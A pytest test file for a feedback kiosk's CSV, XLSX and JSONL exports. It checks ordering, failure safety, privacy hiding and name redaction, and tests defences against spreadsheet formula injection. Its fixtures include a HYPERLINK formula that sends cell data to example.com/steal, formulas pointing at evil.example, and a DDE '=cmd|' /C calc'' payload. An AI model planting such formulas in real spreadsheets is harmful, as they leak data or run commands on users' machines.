"""Staff exports as a spreadsheet opens them: CSV, XLSX and JSONL from a real store, read back for real."""

from __future__ import annotations

import csv
import gc
import json
import os
import re
import shutil
import sqlite3
import subprocess
import sys
import time
from collections import Counter
from datetime import date, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

import sync.core.export as export_module
from kiosk.session.settings import KioskConfig
from kiosk.session.simulate import simulate
from kiosk.session.store import Saved, Store
from kiosk.session.store_export import KioskSource, export
from sync.core.export import PAYLOAD_COLUMNS, coarsen, period_order
from sync.core.record import AnswerRecord, SessionRecord
from sync.core.spreadsheet import spreadsheet_cell
from sync.server.storage.db import database_url
from tests.test_cli import kiosk

FIXED_COLUMNS = (*KioskSource.columns, *PAYLOAD_COLUMNS)

BENGALI = "কর্মীরা খুব ভালো, ক্ষমা চাওয়ার দরকার নেই।"
KOREAN = "직원들이 친절하고 잘 들어줘요."
FORMULA = '=HYPERLINK("http://example.com/steal?d="&A1,"click me")'
OVERALL = "Overall, how was your experience of our service?"
WHY = OVERALL + " — Tell us why"
LISTEN = "Do you feel we listen to you and know what matters most to you?"
WORKING = "What is working? What is the best thing that has happened?"
NOT_WORKING = "What is not working? What one thing would make it better?"


def session(config: KioskConfig, answers: dict[str, str], why: str | None = None, *,
            complete: bool = True) -> SessionRecord:
    """A session on the built-in question set, as the flow records it. ``answers`` maps a question id to
    an answer id (choice) or words (text); every other question was seen and skipped."""
    records = []
    for question in config.questions.questions:
        given = answers.get(question.id)
        answer = AnswerRecord(question.id, question.text, question.kind, "answered" if given else "skipped",
                              follow_up_text=question.follow_up or None, about_you=question.about_you or None)
        if given and question.kind == "choice":
            answer.choice, answer.choice_text, answer.text = given, question.answer(given).text, why
        elif given:
            answer.text = given
        records.append(answer)
    return SessionRecord(config.questions.id, config.questions.version, "en-GB", records, complete)


# What each saved session must look like in a spreadsheet, by column header; unlisted columns are empty.
EXPECTED = [
    {OVERALL: "Very good", WHY: BENGALI, LISTEN: "Yes", WORKING: KOREAN, NOT_WORKING: "More trips out"},
    {OVERALL: "Poor", WHY: "'" + FORMULA, NOT_WORKING: "'-nothing, honestly"},
    {LISTEN: "No"},
    {OVERALL: "Neither good nor poor", WORKING: "'@everyone the garden"},
]


@pytest.fixture
def saved(store: Store, config: KioskConfig) -> list[Saved]:
    """Four sessions covering Bengali, Korean, formula-like text, skips and a half-finished session."""
    sessions = [
        session(config, {"overall": "very-good", "listen": "yes", "working": KOREAN, "not-working": "More trips out"},
                why=BENGALI),
        session(config, {"overall": "poor", "not-working": "-nothing, honestly"}, why=FORMULA),
        session(config, {"listen": "no"}, complete=False),
        session(config, {"overall": "neither", "working": "@everyone the garden"}),
    ]
    return [store.save(s) for s in sessions]


def expected_header(config: KioskConfig) -> list[str]:
    """Fixed columns, then each question's words in set order, each follow-up right after its question; never
    the "About you" questions."""
    header = list(FIXED_COLUMNS)
    for question in config.questions.questions:
        if question.about_you:
            continue
        header.append(question.text)
        if question.follow_up:
            header.append(f"{question.text} — {question.follow_up}")
    return header


def read_table(path: Path) -> list[list[str]]:
    """Rows of a CSV or XLSX export as strings, the way a person sees the cells."""
    if path.suffix == ".xlsx":
        sheet = load_workbook(path, read_only=True)["Responses"]
        return [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def by_header(table: list[list[str]]) -> list[dict[str, str]]:
    header, *rows = table
    assert all(len(row) == len(header) for row in rows)
    return [dict(zip(header, row, strict=True)) for row in rows]


def exported_ids(path: Path) -> list[str]:
    if path.suffix == ".jsonl":
        return [json.loads(line)["id"] for line in path.read_text(encoding="utf-8").splitlines()]
    return [row["id"] for row in by_header(read_table(path))]


def export_order(store: Store) -> list[str]:
    """The ids as an export lists them: by day (the default time detail), then by id, never by seq."""
    with sqlite3.connect(store.path) as db:
        rows = db.execute("SELECT id, created_at_device FROM responses").fetchall()
    return [rid for rid, _created in sorted(rows, key=lambda row: (row[1][:10], row[0]))]


def test_csv_has_a_bom_one_row_per_response_and_the_questions_in_set_order(store, config, saved, tmp_path):
    out = tmp_path / "feedback.csv"
    assert export(store, "csv", out) == len(saved)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    table = read_table(out)
    assert table[0] == expected_header(config)
    assert table[0].index(WHY) == table[0].index(OVERALL) + 1
    assert "seq" not in table[0]
    exported = {row["id"]: row for row in by_header(table)}
    assert list(exported) == export_order(store)
    rows = [exported[s.id] for s in saved]
    assert [row["complete"] for row in rows] == ["True", "True", "False", "True"]
    answer_columns = table[0][len(FIXED_COLUMNS):]
    assert [{c: row[c] for c in answer_columns if row[c]} for row in rows] == EXPECTED


def test_column_order_is_stable_across_exports_and_new_responses(store, config, saved, tmp_path):
    first, second, later = tmp_path / "1.csv", tmp_path / "2.csv", tmp_path / "3.csv"
    export(store, "csv", first)
    export(store, "csv", second)
    assert first.read_bytes() == second.read_bytes()
    simulate(30, config=config, store=store, seed=5, on_saved=lambda _saved: None)
    export(store, "csv", later)
    assert read_table(later)[0] == read_table(first)[0]
    assert len(read_table(later)) == 1 + len(saved) + 30


def test_xlsx_holds_the_same_header_and_values_as_the_csv(store, saved, tmp_path):
    export(store, "csv", tmp_path / "feedback.csv")
    export(store, "xlsx", tmp_path / "feedback.xlsx")
    assert read_table(tmp_path / "feedback.xlsx") == read_table(tmp_path / "feedback.csv")
    cells = {cell.value: cell.data_type for row in load_workbook(tmp_path / "feedback.xlsx")["Responses"].rows
             for cell in row}
    assert {BENGALI, KOREAN} <= cells.keys()
    assert cells["'" + FORMULA] == "s"  # a string, not a formula the spreadsheet would run
    assert not any(kind == "f" for kind in cells.values())


def test_a_control_character_typed_by_accident_does_not_stop_the_xlsx_export(store, config, tmp_path):
    store.save(session(config, {"working": "The bell\x0b rings all night"}))
    export(store, "xlsx", tmp_path / "feedback.xlsx")
    export(store, "csv", tmp_path / "feedback.csv")
    assert by_header(read_table(tmp_path / "feedback.xlsx"))[0][WORKING] == "The bell rings all night"
    assert by_header(read_table(tmp_path / "feedback.csv"))[0][WORKING] == "The bell rings all night"


def in_libreoffice(export_file: Path, tmp_path: Path) -> list[list[str]]:
    """The rows of a CSV or XLSX export as LibreOffice reads them (opened headless, saved again as CSV)."""
    converted = tmp_path / "converted"
    result = subprocess.run(
        ["soffice", f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
         "--infilter=CSV:44,34,76",  # comma, double quote, UTF-8: only used for CSV input
         "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(converted), str(export_file)],
        capture_output=True, text=True, timeout=240)
    assert result.returncode == 0, result.stderr
    return read_table(converted / export_file.with_suffix(".csv").name)


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_libreoffice_reads_bengali_korean_and_formula_text_as_written(store, saved, tmp_path, fmt):
    out = tmp_path / f"feedback.{fmt}"
    export(store, fmt, out)
    header, *rows = in_libreoffice(out, tmp_path)
    assert header == read_table(out)[0]
    cells = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}
    assert list(cells) == export_order(store)
    assert cells[saved[0].id][WHY] == BENGALI and cells[saved[0].id][WORKING] == KOREAN
    assert cells[saved[1].id][WHY] == "'" + FORMULA  # shown as typed, never turned into a link


def test_jsonl_has_one_object_per_response_with_the_database_ids(store, tmp_path, kiosk_env):
    data = store.path.parent
    simulated = kiosk("simulate", "120", "--data", str(data), "--seed", "3", env=kiosk_env)
    assert simulated.returncode == 0, simulated.stderr
    committed = [line.split()[1] for line in simulated.stdout.splitlines()]
    out = tmp_path / "all.jsonl"
    assert export(store, "jsonl", out) == 120
    lines = out.read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(lines) == 120 and all(isinstance(r, dict) for r in records)
    assert all({"id", "answers"} <= r.keys() and r["answers"] and "seq" not in r for r in records)
    ids = [r["id"] for r in records]
    assert len(set(ids)) == len(ids)
    assert ids == export_order(store) and sorted(ids) == sorted(committed)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_since_keeps_only_responses_from_that_day_on(store, saved, tmp_path, fmt):
    old = {saved[0].seq: "2024-05-31T23:59:59Z", saved[1].seq: "2023-01-02T08:00:00Z",
           saved[2].seq: "2024-06-01T00:00:00Z"}
    with sqlite3.connect(store.path) as db:
        db.executemany("UPDATE responses SET created_at_device = ? WHERE seq = ?", [(t, s) for s, t in old.items()])
    out = tmp_path / f"recent.{fmt}"
    result = kiosk("export", "--format", fmt, "--out", str(out), "--data", str(store.path.parent),
                   "--since", "2024-06-01")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("Wrote 2 responses")
    assert exported_ids(out) == [saved[2].id, saved[3].id]


@pytest.mark.parametrize("args", [
    ["--format", "pdf", "--out", "{out}/feedback.pdf"],
    ["--format", "csv", "--out", "{out}/missing/feedback.csv"],
    ["--format", "csv", "--out", "{out}/feedback.csv", "--since", "2026-13-45"],
])
def test_bad_export_arguments_give_one_error_line_and_no_file(store, saved, tmp_path, args):
    out = tmp_path / "out"
    out.mkdir()
    result = kiosk("export", *(a.format(out=out) for a in args), "--data", str(store.path.parent))
    assert result.returncode != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("Error:"), result.stderr
    assert list(out.iterdir()) == []


def test_status_json_counts_what_was_stored(store, saved):
    store.record_delivery([saved[0].id], [(saved[1].id, "rejected")], "2026-11-20T10:00:00Z")
    result = kiosk("status", "--json", "--data", str(store.path.parent))
    assert result.returncode == 0, result.stderr
    status = json.loads(result.stdout)
    assert (status["stored"], status["pending"], status["dead"], status["last_sync"]) == (
        4, 2, 1, "2026-11-20T10:00:00Z")
    assert status["incomplete"] == 1


def fill_disk(_store: Store, partial: Path, _monkeypatch: pytest.MonkeyPatch) -> type[Exception]:
    """The export folder is full: every write to the file being written fails with ENOSPC."""
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    partial.symlink_to("/dev/full")
    return OSError


def damage_a_page(_store: Store, _partial: Path, monkeypatch: pytest.MonkeyPatch) -> type[Exception]:
    """The database is damaged part of the way through: reading the 150th row fails as SQLite does on a bad
    page (a row that is merely not JSON costs only its own cells: test_a_row_that_is_not_json_costs_its_cells)."""
    read = export_module.read_payload
    calls = iter(range(1_000_000))

    def read_until_the_bad_page(stored: str | bytes) -> object:
        if next(calls) == 150:
            raise sqlite3.DatabaseError("database disk image is malformed")
        return read(stored)

    monkeypatch.setattr(export_module, "read_payload", read_until_the_bad_page)
    return sqlite3.DatabaseError


UNRAISABLE = "pytest.PytestUnraisableExceptionWarning"  # something left open, complaining when collected


@pytest.mark.filterwarnings(f"error::{UNRAISABLE}")
@pytest.mark.parametrize(("fmt", "failure"), [
    ("csv", fill_disk), ("jsonl", fill_disk), ("csv", damage_a_page), ("xlsx", damage_a_page),
    # zipfile's own __del__ (inside openpyxl's save) retries its last write on the full disk and complains.
    pytest.param("xlsx", fill_disk, marks=pytest.mark.filterwarnings(f"ignore::{UNRAISABLE}")),
])
def test_a_failed_export_leaves_the_previous_file_and_nothing_half_written(store, config, saved, tmp_path, fmt,
                                                                         failure, monkeypatch):
    simulate(200, config=config, store=store, seed=2, on_saved=lambda _saved: None)  # more than one write buffer
    folder = tmp_path / "usb"
    folder.mkdir()
    target = folder / f"feedback.{fmt}"
    target.write_text("yesterday's export")
    expected_error = failure(store, folder / f"feedback.{fmt}.partial", monkeypatch)
    with pytest.raises(expected_error):
        export(store, fmt, target)
    gc.collect()  # whatever the failed export left behind is finalised now, inside this test
    assert [p.name for p in folder.iterdir()] == [target.name]
    assert target.read_text() == "yesterday's export"


def test_a_row_that_is_not_json_costs_its_cells_not_the_export(store, saved, tmp_path):
    """A damaged payload (not JSON at all) keeps its row, with its id and day and no answers; every other row is
    whole. The same for a number beyond a float's range, which kiosks and servers once stored."""
    with sqlite3.connect(store.path) as db:
        for row_id, payload in (("not-json", '{"answers": ['), ("huge", '{"answers": [], "score": 1e400}')):
            db.execute("INSERT INTO responses (id, created_at_device, question_set, complete, misuse_suspected, "
                       "payload, sha256) VALUES (?, '2026-11-23T09:00:00Z', 'default', 1, 0, ?, '')", (row_id, payload))
    out = tmp_path / "all.csv"
    export(store, "csv", out)
    with out.open(newline="", encoding="utf-8-sig") as sheet:
        rows = {row["id"]: row for row in csv.DictReader(sheet)}
    assert set(rows) == {record.id for record in saved} | {"not-json", "huge"}
    assert rows["not-json"]["created_at_device"] == rows["huge"]["created_at_device"] == "2026-11-23"
    assert not any(rows["not-json"][column] for column in PAYLOAD_COLUMNS)
    assert all(rows[record.id]["language"] and rows[record.id]["question_set"] for record in saved)


def test_an_unknown_format_is_refused_before_anything_is_written(store, saved, tmp_path):
    folder = tmp_path / "usb"
    folder.mkdir()
    with pytest.raises(ValueError, match="pdf"):
        export(store, "pdf", folder / "feedback.pdf")  # type: ignore[arg-type]
    assert list(folder.iterdir()) == []


@pytest.mark.timeout(60)
@pytest.mark.skipif(not Path("/proc/self/wchan").exists(), reason="needs Linux /proc to see the export waiting")
def test_a_response_saved_during_an_export_does_not_make_it_inconsistent(store, saved, tmp_path):
    """A real `kiosk export` is held at a real blocking point: its .partial file is a FIFO, so opening it
    waits for a reader. While it waits, after it has counted, the kiosk saves a response from a question
    set not seen before; the export must still write exactly the responses it counted."""
    out, fifo = tmp_path / "feedback.csv", tmp_path / "feedback.csv.partial"
    os.mkfifo(fifo)
    command = [sys.executable, "-m", "kiosk", "export", "--format", "csv", "--out", str(out),
               "--data", str(store.path.parent)]
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as exporting:
        while Path(f"/proc/{exporting.pid}/wchan").read_text() != "wait_for_partner":  # a state, not a time
            assert exporting.poll() is None, exporting.stderr.read() if exporting.stderr else ""
            time.sleep(0.01)
        store.save(SessionRecord("feelings", 1, "en-GB", [AnswerRecord("feel-today", "How do you feel?", "choice",
                                                                       "answered", "ok", "OK")], complete=True))
        with fifo.open(encoding="utf-8-sig", newline="") as reader:
            table = list(csv.reader(reader))
        stdout, stderr = exporting.communicate()
    assert exporting.returncode == 0, stderr
    assert stdout.startswith(f"Wrote {len(table) - 1} responses")
    assert len(table) - 1 == len(saved)  # the new response goes into the next export
    assert all(len(row) == len(table[0]) for row in table)


@pytest.mark.parametrize(("detail", "shown"), [("hour", "2026-11-23T14Z"), ("day", "2026-11-23"),
                                               ("week", "2026-W48")])
def test_exports_show_when_only_to_the_hour_day_or_week(store, config, saved, tmp_path, detail, shown):
    simulate(3, config=config, store=store, seed=4, on_saved=lambda _saved: None)
    with sqlite3.connect(store.path) as db:
        db.execute("UPDATE responses SET created_at_device = '2026-11-23T14:07:31Z'")
    out = tmp_path / "feedback.csv"
    export(store, "csv", out, time_detail=detail)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert {row["created_at_device"] for row in rows} == {shown}
    export(store, "jsonl", out.with_suffix(".jsonl"), time_detail=detail)
    records = [json.loads(line) for line in out.with_suffix(".jsonl").read_text().splitlines()]
    assert {record["created_at_device"] for record in records} == {shown}
    assert "14:07" not in out.read_text() + out.with_suffix(".jsonl").read_text()


# Three periods of three answers each, for every time detail, as (period shown, [moments in time order]).
# The weeks cross a new year (2026-W53 runs from 28 December to 3 January) and each holds a Monday, a
# Wednesday and a Sunday, so ordering by day inside a week would show.
PERIODS = {
    "hour": [("2026-11-23T09Z", ["2026-11-23T09:05:00Z", "2026-11-23T09:30:00Z", "2026-11-23T09:55:00Z"]),
             ("2026-11-23T10Z", ["2026-11-23T10:05:00Z", "2026-11-23T10:30:00Z", "2026-11-23T10:55:00Z"]),
             ("2026-11-23T14Z", ["2026-11-23T14:05:00Z", "2026-11-23T14:30:00Z", "2026-11-23T14:55:00Z"])],
    "day": [("2026-11-22", ["2026-11-22T08:00:00Z", "2026-11-22T12:00:00Z", "2026-11-22T20:00:00Z"]),
            ("2026-11-23", ["2026-11-23T08:00:00Z", "2026-11-23T12:00:00Z", "2026-11-23T20:00:00Z"]),
            ("2026-11-24", ["2026-11-24T08:00:00Z", "2026-11-24T12:00:00Z", "2026-11-24T20:00:00Z"])],
    "week": [("2026-W52", ["2026-12-21T10:00:00Z", "2026-12-23T10:00:00Z", "2026-12-27T10:00:00Z"]),
             ("2026-W53", ["2026-12-28T10:00:00Z", "2026-12-30T10:00:00Z", "2027-01-03T10:00:00Z"]),
             ("2027-W01", ["2027-01-04T10:00:00Z", "2027-01-06T10:00:00Z", "2027-01-10T10:00:00Z"])],
}


def answers_against_the_clock(detail: str) -> list[tuple[str, str]]:
    """``(id, created_at_device)`` in the order the answers were given, each id smaller than the one
    before: in an export, id order and time order are opposite within a period and across periods."""
    moments = [moment for _shown, in_period in PERIODS[detail] for moment in in_period]
    return [(f"{len(moments) - n:08x}-0000-4000-8000-000000000000", moment) for n, moment in enumerate(moments)]


def expected_order(detail: str) -> list[tuple[str, str]]:
    """``(id, period shown)`` as an export must list them: periods in time order, then by id."""
    given = dict(answers_against_the_clock(detail))
    return [(rid, shown) for shown, in_period in PERIODS[detail]
            for rid in sorted(rid for rid, moment in given.items() if moment in in_period)]


@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
@pytest.mark.parametrize("detail", ["hour", "day", "week"])
def test_exports_carry_no_seq_and_list_each_period_by_random_id_not_by_time(store, config, tmp_path, detail, fmt):
    given = answers_against_the_clock(detail)
    for _ in given:
        store.save(session(config, {"listen": "yes"}))
    with sqlite3.connect(store.path) as db:  # seq order is time order, as on a real kiosk
        db.executemany("UPDATE responses SET id = ?, created_at_device = ? WHERE seq = ?",
                       [(rid, moment, seq) for seq, (rid, moment) in enumerate(given, start=1)])
    out = tmp_path / f"feedback.{fmt}"
    result = kiosk("export", "--format", fmt, "--out", str(out), "--data", str(store.path.parent),
                   "--time-detail", detail)
    assert result.returncode == 0, result.stderr
    if fmt == "csv":
        rows = by_header(read_table(out))
    else:
        rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert not any("seq" in row for row in rows)
    listed = [(row["id"], row["created_at_device"]) for row in rows]
    assert listed == expected_order(detail)
    for shown, in_period in PERIODS[detail]:  # within a period: the latest answer first, by its id
        ids = [rid for rid, period in listed if period == shown]
        assert ids == [rid for rid, moment in reversed(given) if moment in in_period]


def test_period_order_sorts_as_coarsen_shows_on_every_day_of_four_centuries(server_database):
    """The SQL both exports sort by agrees with coarsen() on SQLite and PostgreSQL: one value per hour, day
    or ISO week (400 years hold every kind of year), in time order."""
    first = date(1900, 1, 1)
    moments = [f"{first + timedelta(days=n)}T{n % 24:02d}:{n % 60:02d}:00Z" for n in range(146_097)]
    engine = sa.create_engine(database_url(server_database))
    try:
        with engine.begin() as db:
            db.execute(sa.text("CREATE TEMPORARY TABLE moments (created_at_device VARCHAR(40))"))
            db.execute(sa.text("INSERT INTO moments VALUES (:m)"), [{"m": m} for m in moments])
            keys = {detail: dict(db.execute(sa.text(
                f"SELECT created_at_device, {period_order('created_at_device', detail)} FROM moments")).all())
                for detail in ("hour", "day", "week")}
    finally:
        engine.dispose()
    for detail, key in keys.items():
        periods: dict[str, set[object]] = {}
        for moment in moments:
            periods.setdefault(coarsen(moment, detail), set()).add(key[moment])  # type: ignore[arg-type]
        assert all(len(values) == 1 for values in periods.values()), detail
        assert sorted(periods, key=lambda period: min(periods[period])) == sorted(periods), detail  # type: ignore[type-var]


def test_coarsen_leaves_nothing_for_what_is_not_a_timestamp():
    assert coarsen("yesterday", "day") == "" and coarsen("", "week") == ""
    assert coarsen("2027-01-01T00:00:00Z", "week") == "2026-W53"  # ISO weeks cross the new year


def test_the_xlsx_summary_counts_each_answer_and_hides_small_counts(store, config, saved, tmp_path):
    simulate(40, config=config, store=store, seed=1, on_saved=lambda _saved: None)
    export(store, "csv", tmp_path / "all.csv")
    with (tmp_path / "all.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    question = "Overall, how was your experience of our service?"
    truth = Counter(row[question] for row in rows if row[question])
    assert min(truth.values()) < 5 <= max(truth.values())  # this seed gives both kinds
    export(store, "xlsx", tmp_path / "all.xlsx")
    summary = load_workbook(tmp_path / "all.xlsx", read_only=True)["Summary"]
    shown = {answer: count for q, answer, count in summary.iter_rows(min_row=2, values_only=True) if q == question}
    assert shown == {answer: count if count >= 5 else "fewer than 5" for answer, count in truth.items()}


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_about_you_answers_are_never_exported_beside_the_other_answers(store, config, tmp_path, fmt):
    """"About you" answers are kept in the record but only ever counted (issue 9): no export shows them."""
    store.save(session(config, {"overall": "good", "about-you": "yes", "about-age": "65-or-over",
                                "about-who": "family-carer"}))
    out = tmp_path / f"feedback.{fmt}"
    assert export(store, fmt, out) == 1  # type: ignore[arg-type]
    [stored] = [json.loads(row[0]) for row in sqlite3.connect(store.path).execute("SELECT payload FROM responses")]
    assert {a["question"]: a.get("about_you") for a in stored["answers"]}["about-age"] is True
    text = " ".join(map(" ".join, read_table(out))) if fmt == "xlsx" else out.read_text(encoding="utf-8-sig")
    assert "Good" in text
    for hidden in ("How old are you?", "65 or over", "65-or-over", "Family or carer", "about-age", "about_you"):
        assert hidden not in text


EVIL_SET = '=HYPERLINK("http://evil.example/qs","qs")'
EVIL_QUESTION = '=HYPERLINK("http://evil.example/q","q")'
EVIL_TEXT = '\u0001=HYPERLINK("http://evil.example/t","t")'


def review_session() -> SessionRecord:
    """The outside review's record, as a kiosk could send it: a formula for the question set's id and a
    question's words, a formula hidden behind a control character in typed text; and the other ways in:
    + - @ first, after spaces, or a leading tab or carriage return."""
    answers = [
        AnswerRecord("overall", EVIL_QUESTION, "choice", "answered", choice="good", choice_text="+Good",
                     text=EVIL_TEXT, follow_up_text="@Tell us why"),
        AnswerRecord("working", "-What is working?", "text", "answered", text="  =1+1"),
        AnswerRecord("not-working", "What is not working?", "text", "answered", text="\t=cmd|' /C calc'!A0"),
        AnswerRecord("listen", "Do you feel we listen?", "text", "answered", text="\r\n@SUM(1)"),
    ]
    return SessionRecord(EVIL_SET, 1, "en", answers, True)


def formula_like(text: str) -> bool:
    """True if a spreadsheet could run ``text``: = + - or @ first (after any spaces or control characters),
    or a leading tab or carriage return."""
    return re.match(r"[\t\r]|[\s\x00-\x1f\x7f-\x9f]*[=+\-@]", text) is not None


def assert_no_formula(path: Path) -> None:
    """No cell of a CSV or XLSX export, on any sheet, headers included, can run as a formula; in XLSX every
    text is stored as text."""
    if path.suffix == ".xlsx":
        book = load_workbook(path)  # not read-only: each cell's data_type
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert len(book.sheetnames) == 2 and cells
        unsafe = [(cell.parent.title, cell.coordinate, cell.value) for cell in cells
                  if cell.data_type not in ("s", "n", "b") or (cell.data_type == "s" and formula_like(cell.value))]
    else:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            unsafe = [cell for row in csv.reader(handle) for cell in row if formula_like(cell)]
    assert unsafe == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_cell_of_a_kiosk_export_can_run_as_a_formula(store, tmp_path, fmt):
    store.save(review_session())
    out = tmp_path / f"feedback.{fmt}"
    assert export(store, fmt, out) == 1
    assert_no_formula(out)
    [row] = by_header(read_table(out))
    assert row["question_set"] == "'" + EVIL_SET and row["'" + EVIL_QUESTION] == "'+Good"
    assert row["'" + EVIL_QUESTION + " — @Tell us why"] == "'" + EVIL_TEXT[1:]  # the control character gone first
    assert row["'-What is working?"] == "'  =1+1"


def test_real_numbers_and_true_or_false_stay_numbers_and_booleans_in_xlsx(store, config, saved, tmp_path):
    simulate(20, config=config, store=store, seed=9, on_saved=lambda _saved: None)
    store.save(review_session())
    export(store, "xlsx", tmp_path / "all.xlsx")
    book = load_workbook(tmp_path / "all.xlsx")
    complete = [row[FIXED_COLUMNS.index("complete")] for row in book["Responses"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in complete} == {"b"}
    counts = [row[2] for row in book["Summary"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in counts if isinstance(cell.value, int)} == {"n"}
    assert any(isinstance(cell.value, int) for cell in counts)


@pytest.mark.parametrize(("value", "cell"), [
    ("\u0001=HYPERLINK(1)", "'=HYPERLINK(1)"), (" \u200b+1", "' \u200b+1"), ("\t1", "'\t1"), ("\r\n@a", "'\r\n@a"),
    (" =1", "' =1"), ("", ""), ("-5", "'-5"), ("The bell\x0b rings", "The bell rings"), ("two\nlines", "two\nlines"),
    ("a = b", "a = b"),
    (5, 5), (-5, -5), (2.5, 2.5), (True, True), (None, None),
])
def test_a_cell_is_text_that_cannot_run_or_a_real_number(value, cell):
    assert spreadsheet_cell(value) == cell and type(spreadsheet_cell(value)) is type(cell)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
def test_names_are_redacted_in_an_export_only_when_asked(store, config, tmp_path, fmt):
    """Stored as given (privacy.staff_names = "keep"), redacted for a copy to publish (issue 20)."""
    said = "Trevor and Dr Smith were kind, ask for Sarah"
    store.save(session(config, {"overall": "very-good", "working": said}, why="Nurse Kelly listened"))

    def written(redact: bool) -> tuple[str, str]:
        out = tmp_path / f"export-{redact}.{fmt}"
        export(store, fmt, out, redact_names=redact)
        if fmt == "jsonl":
            answers = {a["question"]: a for a in json.loads(out.read_text(encoding="utf-8"))["answers"]}
            return answers["working"]["text"], answers["overall"]["text"]
        row = by_header(read_table(out))[0]
        return row[WORKING], row[WHY]

    assert written(False) == (said, "Nurse Kelly listened")
    assert written(True) == ("[name] and Dr [name] were kind, ask for [name]", "Nurse [name] listened")


def test_the_export_command_redacts_names_when_asked(store, config, tmp_path, kiosk_env):
    store.save(session(config, {"working": "Trevor on nights was great"}))
    out = tmp_path / "shared.jsonl"
    done = kiosk("export", "--format", "jsonl", "--out", str(out), "--data", str(store.path.parent), "--redact-names",
                 env=kiosk_env)
    assert done.returncode == 0, done.stderr
    assert "[name] on nights was great" in out.read_text(encoding="utf-8")
